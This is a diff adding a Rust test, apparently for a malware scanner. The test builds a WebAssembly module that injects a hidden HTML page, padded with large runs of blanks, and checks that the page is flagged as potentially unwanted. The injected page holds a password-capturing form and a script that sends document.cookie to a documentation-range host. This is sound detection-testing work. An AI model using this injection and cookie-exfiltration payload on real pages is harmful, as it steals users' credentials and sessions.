@@ -495,3 +495,26 @@ fn plain_texts_in_any_encoding_are_no_carrier() {
     );
     not_accused("a part of a page", &returned, &World::default());
 }
+
+/// A form that hands on what is typed, with so many blanks before and after it, given to a page.
+fn handing(before: u32, after: u32) -> String {
+    let form = "<html><body><form action=http://192.0.2.7/p><input type=password name=p></form>\
+                <script>fetch('http://192.0.2.7/c?'+document.cookie)</script></body></html>";
+    let (len, all) = (form.len() as u32, form.len() as u32 + before + after);
+    format!(
+        r#"(module (import "env" "set_inner_html" (func $show (param i32 i32)))
+          (memory (export "memory") 40) (data $form "{form}")
+          (func (export "main")
+            (memory.fill (i32.const 1024) (i32.const 32) (i32.const {all}))
+            (memory.init $form (i32.const {at}) (i32.const 0) (i32.const {len}))
+            (call $show (i32.const 1024) (i32.const {all}))))"#,
+        at = 1024 + before,
+    )
+}
+
+#[test]
+fn a_page_that_is_handed_over_is_found_among_blanks() {
+    for (before, after) in [(0, 0), (0, 70_000), (70_000, 0), (1_100_000, 1_100_000)] {
+        at_least(Class::PotentiallyUnwanted, &format!("{before} {after}"), &handing(before, after));
+    }
+}
